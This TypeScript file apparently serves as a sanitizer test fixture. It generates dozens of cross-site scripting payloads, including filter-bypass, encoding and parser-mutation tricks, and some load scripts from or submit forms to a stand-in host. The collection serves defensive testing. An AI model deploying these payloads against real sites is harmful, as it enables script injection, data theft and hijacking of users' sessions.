/** What a text tries to make a browser do. */
export interface Payload {
  n: number;
  /** Runs `__hit(n)`, opens a dialog, asks for `outside`, or leads away. */
  html: string;
}
/** An address that the product never uses: a request for it was caused by a text. */
const outside = 'https://outside.example';

type Shape = (run: string) => string;
const shapes: readonly Shape[] = [
  // Elements that run scripts, load resources or send requests automatically.
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt\t>${run}</sCrIpT\n>`,
  (run) => `<script/x>${run}</script/y>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  () => `<script src=${outside}/a.js></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  () => `<iframe src="${outside}/frame"></iframe>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  () => `<embed src="${outside}/e.swf"><object data="${outside}/o"></object>`,
  () => `<link rel=stylesheet href="${outside}/a.css"><link rel=prefetch href="${outside}/b">`,
  () => `<style>@import "${outside}/c.css";</style>`,
  () => `<base href="${outside}/"><img src="relative.png">`,
  () => `<meta http-equiv="refresh" content="0;url=${outside}/away">`,
  (run) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  () => `<form action="${outside}/take" id=go><input name=a></form><script>go.submit()</script>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<form><button formaction="javascript:${run}">x</button></form>`,
  () => `<video poster="${outside}/p.png"><source src="${outside}/v.mp4"></video><audio src="${outside}/a.mp3">`,
  () => `<img srcset="${outside}/s.png 1x"><picture><source srcset="${outside}/t.png"><img></picture>`,
  () => `<table background="${outside}/t.png"><tr><td background=${outside}/d.png>x</table><body background=${outside}/b.png>`,
  () => `<input type=image src="${outside}/i.png">`,
  // Handlers that need no interaction.
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<IMG SRC="x" ONERROR="${run}"//`,
  (run) => `<img/src='x'/onerror='${run}'>`,
  (run) => `<img src=x onerror\u000c=\n${run}>`,
  (run) => `<img src="x" alt="\`"onerror=${run} x="">`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><svg/onload=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<body onload=${run} onpageshow=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<p tabindex=1 autofocus onfocus=${run}>x</p>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video src=x onerror=${run}></video><audio src=x onerror=${run}></audio>`,
  (run) => `<style>@keyframes turn{to{opacity:0}}</style><p style="animation:turn 1ms" onanimationend="${run}">x</p>`,
  (run) => `<p style="transition:color 1ms" ontransitionend=${run} onmouseover=${run} onclick=${run}>x</p>`,
  (run) => `<a href="#" onclick="${run}" onpointerenter="${run}">x</a>`,
  // Addresses that run.
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href=" \u0001JaVaScRiPt:${run}">x</a>`,
  (run) => `<a href="java&#10;script&colon;${run}">x</a>`,
  (run) => `<a href="&#x6A;&#97&#0000118a&Tab;script:${run}">x</a>`,
  (run) => `<a href="java\tscr\nipt\r:${run}">x</a>`,
  (run) => `<a href="javascript://x%0A${run}">x</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>" target=_self>x</a>`,
  (run) => `<a href="vbscript:${run}">x</a><a href="//outside.example/b">y</a>`,
  (run) =>
    `<img src="javascript:${run}"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  // Other markup inside HTML.
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script xlink:href="data:,${run}"></script></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><set attributeName=href to=javascript:${run} /><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<math href="javascript:${run}">x</math><math><a xlink:href="javascript:${run}">y</a></math>`,
  // Texts that are other markup to one parser than to the next.
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
  (run) => `<template><script>${run}</script></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<!--><img src=x onerror=${run}>--><!-- --!><img src=x onerror=${run}> -->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]><?xml x="><img src=x onerror=${run}>"?>`,
  (run) => `</title></textarea></style></script></noscript></template><script>${run}</script>`,
  (run) => `<textarea><title><img title="</title></textarea><img src=x onerror=${run}>"></title></textarea>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><plaintext><script>${run}</script>`,
  (run) => `<select><option><style></select><img src=x onerror=${run}></style></option></select>`,
  (run) => `<a title="&quot;><img src=x onerror=${run}>" href="https://shop.example/&quot;onmouseover=&quot;${run}">x</a>`,
  (run) => `&lt;img src=x onerror=${run}&gt;&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  // What is in the page itself.
  (run) =>
    `<img name=getElementById><form name=body id=location><input name=innerHTML></form><a id=__hit href=https://x.example></a><script>${run}</script>`,
  (run) => `</section></main></body></html><script>${run}</script>`,
  (run) => `\u2028<script>\u2029${run}\u2028</script>\u2029`,
  (run) => `<img src=x o\u0130nerror=${run}><\u017fcript>${run}</\u017fcript>\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `\${${run}}{{${run}}}<%= ${run} %>';${run};'";${run};"\`;${run};//`,
];

/** Every third opens a dialog. */
export const payloads: readonly Payload[] = shapes.map((shape, n) => ({ n, html: shape(n % 3 ? `__hit(${n})` : `alert(${n})`) }));
/** The payload, or a short one where a member takes no more. */
export const within = ({ n, html }: Payload, max: number): string =>
  html.length <= max ? html : `<img src=x onerror=__hit(${n})>`.slice(0, max);
